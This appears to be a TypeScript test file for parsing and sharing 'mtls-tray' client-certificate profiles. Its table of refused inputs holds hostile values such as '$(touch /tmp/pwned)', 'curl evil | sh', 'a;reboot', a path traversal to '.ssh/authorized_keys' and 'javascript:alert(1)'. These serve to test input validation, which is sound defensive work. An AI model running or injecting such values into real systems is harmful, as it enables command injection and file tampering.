import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { UserError } from '../../main/base/errors';
import {
  describeSharedProfile,
  expandSanTemplate,
  identityForTeammate,
  parseProfileLink,
  parseSharedProfile,
  profileToLink,
  serializeSharedProfile,
  SHARE_FORMAT,
  type SharedProfile,
} from '../../main/profiles/share-format';

function caPem(): string {
  const dir = mkdtempSync(join(tmpdir(), 'share-ca-'));
  try {
    execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', join(dir, 'k'), '-out', join(dir, 'c'), '-subj', '/CN=Test Server CA', '-days', '2'], { stdio: 'ignore' });
    return readFileSync(join(dir, 'c'), 'utf8');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
const CA = caPem();

const good: SharedProfile = {
  format: SHARE_FORMAT,
  version: 1,
  name: 'Acme prod',
  url: 'https://coder.acme.test',
  altHost: 'coder-internal.acme.test',
  identity: 'self-signed',
  keyAlgorithm: 'ecdsa-p256',
  validityDays: 30,
  sanTemplate: ['email:{user}@acme.test', 'DNS:{hostname}.dev.acme.test'],
  headers: [{ name: 'X-Team', value: 'platform' }, { name: 'X-Client-Cert-Sha256', value: '{{cert.sha256}}' }],
  caBundle: CA,
};

test('a profile survives serialise -> parse, and a link round trip', () => {
  const text = serializeSharedProfile(good);
  const back = parseSharedProfile(text, 'p.mtlsprofile');
  assert.deepEqual(back, { ...good, caBundle: back.caBundle });
  assert.match(back.caBundle!, /BEGIN CERTIFICATE/);
  const link = profileToLink(good);
  assert.match(link, /^mtls-tray:\/\/import\?profile=[A-Za-z0-9_-]+$/);
  assert.deepEqual(parseProfileLink(link), back);
});

test('SAN templates expand only {user} and {hostname}, sanitised', () => {
  assert.deepEqual(expandSanTemplate(good.sanTemplate, { user: 'Jane Doe', hostname: 'laptop.local' }), ['email:jane-doe@acme.test', 'DNS:laptop.dev.acme.test']);
});

test('a teammate never gets our local CA: local-ca becomes a CSR', () => {
  assert.deepEqual(identityForTeammate({ ...good, identity: 'local-ca' }), { source: 'csr', pending: true });
  assert.deepEqual(identityForTeammate({ ...good, identity: 'imported' }), { source: 'csr', pending: true });
  assert.deepEqual(identityForTeammate({ ...good, identity: 'imported', identityBundle: { type: 'pkcs12', data: 'AAAA' } }), { source: 'imported', pending: false });
});

test('the review lists everything the profile sets', () => {
  const lines = describeSharedProfile(good, { user: 'jane', hostname: 'box' }).join('\n');
  for (const s of ['Acme prod', 'https://coder.acme.test', 'coder-internal.acme.test', 'email:jane@acme.test', 'X-Team=platform', 'Test Server CA', 'coder.tlsCaFile', 'coder.tlsAltHost']) {
    assert.ok(lines.includes(s), `review mentions ${s}`);
  }
});

/** Hostile or broken profiles: each is refused with a message naming what is wrong. */
const base = JSON.parse(serializeSharedProfile(good)) as Record<string, unknown>;
const hostile: Array<[string, string, RegExp]> = [
  ['shell substitution in a header value', JSON.stringify({ ...base, headers: [{ name: 'X-A', value: '$(touch /tmp/pwned)' }] }), /headers\[0\]\.value.*"\$"/],
  ['backticks in a header value', JSON.stringify({ ...base, headers: [{ name: 'X-A', value: '`id`' }] }), /headers\[0\]\.value/],
  ['a newline in a header value', JSON.stringify({ ...base, headers: [{ name: 'X-A', value: 'a\nX-Evil=1' }] }), /X-A|header/i],
  ['"=" in a header name', JSON.stringify({ ...base, headers: [{ name: 'X=A', value: 'v' }] }), /X=A|header name/i],
  ['a space in a header name', JSON.stringify({ ...base, headers: [{ name: 'X A', value: 'v' }] }), /X A|header name/i],
  ['path traversal in the name', JSON.stringify({ ...base, name: '../../.ssh/authorized_keys' }), /"name"/],
  ['a slash in the name', JSON.stringify({ ...base, name: 'a/b' }), /"name"/],
  ['a huge field', JSON.stringify({ ...base, name: 'x'.repeat(100_000) }), /"name"/],
  ['a file over the size limit', JSON.stringify({ ...base, pad: 'x'.repeat(2 * 1024 * 1024) }), /larger than/],
  ['a wrong type', JSON.stringify({ ...base, validityDays: '30' }), /validityDays.*number/],
  ['headers not a list', JSON.stringify({ ...base, headers: { a: 1 } }), /headers.*list/],
  ['duplicate keys', JSON.stringify(base).replace('"url":', '"url":"https://evil.test","url":'), /appears twice/],
  ['a future format version', JSON.stringify({ ...base, version: 99 }), /version 99/],
  ['a header command', JSON.stringify({ ...base, headerCommand: 'curl evil | sh' }), /headerCommand.*not a field/],
  ['a file path', JSON.stringify({ ...base, certFile: '/etc/passwd' }), /certFile.*not a field/],
  ['a data dir', JSON.stringify({ ...base, dataDir: '/tmp/x' }), /dataDir.*not a field/],
  ['an unknown field inside a header', JSON.stringify({ ...base, headers: [{ name: 'X', value: 'v', command: 'id' }] }), /headers\[0\]\.command/],
  ['a private key in the CA bundle', JSON.stringify({ ...base, caBundle: `${CA}-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n` }), /only certificates/],
  ['http instead of https', JSON.stringify({ ...base, url: 'http://coder.acme.test' }), /https:\/\//],
  ['a javascript: URL', JSON.stringify({ ...base, url: 'javascript:alert(1)' }), /https:\/\//],
  ['an unknown SAN placeholder', JSON.stringify({ ...base, sanTemplate: ['DNS:{env:HOME}.x'] }), /sanTemplate\[0\]/],
  ['shell in the alt host', JSON.stringify({ ...base, altHost: 'a;reboot' }), /altHost/],
  ['not a profile at all', JSON.stringify({ format: 'other', version: 1 }), /not an mtls-tray profile/],
  ['an identity bundle that is not base64', JSON.stringify({ ...base, identityBundle: { type: 'pkcs12', data: 'not base64!' } }), /base64/],
  ['the root is a list', '[1,2]', /must be an object/],
  ['not JSON', '{"format": ', /not valid JSON/],
];

for (const [what, text, message] of hostile) {
  test(`refuses a profile with ${what}`, () => {
    assert.throws(() => parseSharedProfile(text, 'evil.mtlsprofile'), (err: unknown) => {
      assert.ok(err instanceof UserError, `UserError, got ${String(err)}`);
      assert.match(err.message, message);
      assert.match(err.message, /evil\.mtlsprofile/);
      return true;
    });
  });
}

test('links: a foreign scheme, extra parameters and an embedded identity are refused', () => {
  assert.throws(() => parseProfileLink('https://evil.test/?profile=abc'), /must start with mtls-tray:\/\/import\?/);
  const ok = profileToLink(good);
  assert.throws(() => parseProfileLink(`${ok}&exec=id`), /exactly one parameter/);
  const withId = Buffer.from(JSON.stringify({ ...base, identityBundle: { type: 'pkcs12', data: 'AAAA' } })).toString('base64url');
  assert.throws(() => parseProfileLink(`mtls-tray://import?profile=${withId}`), /private key/);
  assert.throws(() => profileToLink({ ...good, identityBundle: { type: 'pkcs12', data: 'AAAA' } }), /cannot carry a private key/);
});
